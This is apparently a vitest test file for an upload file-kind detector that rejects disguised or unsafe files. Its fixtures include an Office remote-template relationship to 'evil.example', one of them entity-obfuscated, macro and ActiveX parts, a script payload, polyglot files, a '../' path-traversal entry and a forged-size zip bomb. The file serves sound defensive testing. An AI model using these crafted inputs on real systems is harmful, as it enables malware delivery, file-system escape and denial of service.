import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { isRefusal } from '#core/kernel/refusal.ts';
import { jpegFile, officeFile, pdfFile, pngFile } from '#test/evidence-files.ts';
import { completeName, decideFileKind } from './file-kind.ts';

const decide = async (name: string, content: Uint8Array): Promise<string> => {
  const kind = await decideFileKind(name, content);
  return isRefusal(kind) ? kind.code : kind.endings[0];
};
const join = (...parts: readonly Uint8Array[]): Uint8Array => Buffer.concat(parts);
const docx = officeFile('wordprocessingml.document');
const xlsx = officeFile('spreadsheetml.sheet');

// States a comment that is longer than what follows: strict readers see no archive, others open it.
const lyingZip = (): Uint8Array => {
  const archive = zipSync({ 'a.html': strToU8('<p>') });
  new DataView(archive.buffer).setUint16(archive.byteLength - 2, 5000, true);
  return archive;
};

describe('the kind of a file', () => {
  test.each([
    ['a.pdf', pdfFile(), 'pdf'],
    ['a.PDF', pdfFile(), 'pdf'],
    ['a.docx', docx, 'docx'],
    ['a.xlsx', xlsx, 'xlsx'],
    ['a.png', pngFile(), 'png'],
    ['a.jpeg', jpegFile(), 'jpg'],
    ['ảnh chụp', jpegFile(), 'jpg'],
  ])('%s is told by its content', async (name, content, kind) => {
    expect(await decide(name, content)).toBe(kind);
  });

  test('gives a name without an ending the one of its kind', async () => {
    const kind = await decideFileKind('ảnh chụp', jpegFile());
    expect(!isRefusal(kind) && completeName('ảnh chụp', kind)).toBe('ảnh chụp.jpg');
  });

  test.each([
    ['nothing', 'a.pdf', new Uint8Array(0), 'file.empty'],
    ['a page', 'a.pdf', strToU8('<html><script>alert(1)</script>'), 'file.unsupported-kind'],
    ['a program', 'a.pdf', strToU8('MZ\u0090\0'), 'file.unsupported-kind'],
    ['an archive', 'a.zip', zipSync({ 'a.txt': strToU8('a') }), 'file.unsupported-kind'],
    ['slides', 'a.pptx', officeFile('presentationml.presentation'), 'file.unsupported-kind'],
    [
      'an old .doc',
      'a.doc',
      Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1),
      'file.old-office',
    ],
    ['half a picture', 'a.png', pngFile().subarray(0, 40), 'file.broken'],
    ['half a document', 'a.docx', docx.subarray(0, docx.byteLength - 30), 'file.broken'],
    ['a PDF without end', 'a.pdf', strToU8('%PDF-1.7\n'), 'file.broken'],
  ])('%s is refused by name', async (_, name, content, code) => {
    expect(await decide(name, content)).toBe(code);
  });

  test.each([
    ['macros among the parts', { 'word/vbaProject.bin': strToU8('x') }],
    ['a control that runs', { 'word/activeX/activeX1.xml': strToU8('<x/>') }],
    [
      'a template from elsewhere, which may bring macros',
      {
        'word/_rels/settings.xml.rels': strToU8(
          '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        ),
      },
    ],
    [
      'a template from elsewhere behind a sign that looks like the end of its element',
      {
        'word/_rels/settings.xml.rels': strToU8(
          '<Relationships><Relationship Id="r" Target="http://evil.example/?>" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached&#84;emplate" TargetMode="External"/></Relationships>',
        ),
      },
    ],
  ])('%s are refused', async (_, parts) => {
    expect(await decide('a.docx', officeFile('wordprocessingml.document', parts))).toBe('file.macros');
  });

  test('macros that only the list of types tells are refused', async () => {
    const types =
      '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
    expect(await decide('a.docx', zipSync({ '[Content_Types].xml': strToU8(types) }))).toBe('file.macros');
  });

  test.each([
    ['a picture with an archive behind it', 'a.png', join(pngFile(), docx), 'file.broken'],
    ['a photograph with an archive behind it', 'a.jpg', join(jpegFile(), docx), 'file.disguised'],
    ['a PDF with an archive that lies about its end', 'a.pdf', join(pdfFile(), lyingZip()), 'file.disguised'],
    ['a PDF with an archive in it', 'a.pdf', join(pdfFile(), docx, pdfFile()), 'file.disguised'],
    [
      'a photograph that is a page',
      'a.jpg',
      join(jpegFile(), strToU8('<script>'), jpegFile()),
      'file.disguised',
    ],
    ['a document with something before its directory', 'a.docx', join(docx, strToU8('x')), 'file.disguised'],
    [
      'a document with a way out of its folder',
      'a.docx',
      officeFile('wordprocessingml.document', { '../a': strToU8('x') }),
      'file.disguised',
    ],
    ['a PDF that is called a picture', 'a.png', pdfFile(), 'file.disguised'],
    ['a document that is called a program', 'a.exe', docx, 'file.disguised'],
  ])('%s is refused', async (_, name, content, code) => {
    expect(await decide(name, content)).toBe(code);
  });

  test('an archive that unpacks to too much is refused without being unpacked', async () => {
    const bomb = Buffer.from(officeFile('wordprocessingml.document', { z: new Uint8Array(100_000) }));
    bomb.writeUInt32LE(160 * 1024 * 1024, bomb.lastIndexOf('PK\u0001\u0002') + 24);
    expect(await decide('a.docx', bomb)).toBe('file.too-complex');
  });

  test('a part that unpacks to more than it states is refused', async () => {
    const whole = Buffer.from(officeFile('wordprocessingml.document', { z: new Uint8Array(100_000) }));
    const entry = whole.lastIndexOf('PK\u0001\u0002');
    whole.writeUInt32LE(10, entry + 24);
    expect(await decide('a.docx', whole)).toBe('file.broken');
  });

  test('parts that share their bytes are refused', async () => {
    const whole = Buffer.from(officeFile('wordprocessingml.document', { y: strToU8('y'), z: strToU8('z') }));
    const last = whole.lastIndexOf('PK\u0001\u0002');
    whole.writeUInt32LE(whole.readUInt32LE(whole.lastIndexOf('PK\u0001\u0002', last - 1) + 42), last + 42);
    expect(await decide('a.docx', whole)).toBe('file.too-complex');
  });

  test('no content makes it fail', async () => {
    const begun = fc.constantFrom(docx, xlsx, pdfFile(), pngFile(), jpegFile());
    await fc.assert(
      fc.asyncProperty(begun, fc.nat(), fc.uint8Array({ maxLength: 40 }), async (file, at, noise) => {
        const changed = Buffer.from(file);
        changed.set(
          noise.subarray(0, changed.byteLength - (at % changed.byteLength)),
          at % changed.byteLength,
        );
        expect(await decide('a', changed)).toMatch(/^(?:file\.|pdf|docx|xlsx|png|jpg)/);
      }),
    );
  });
});
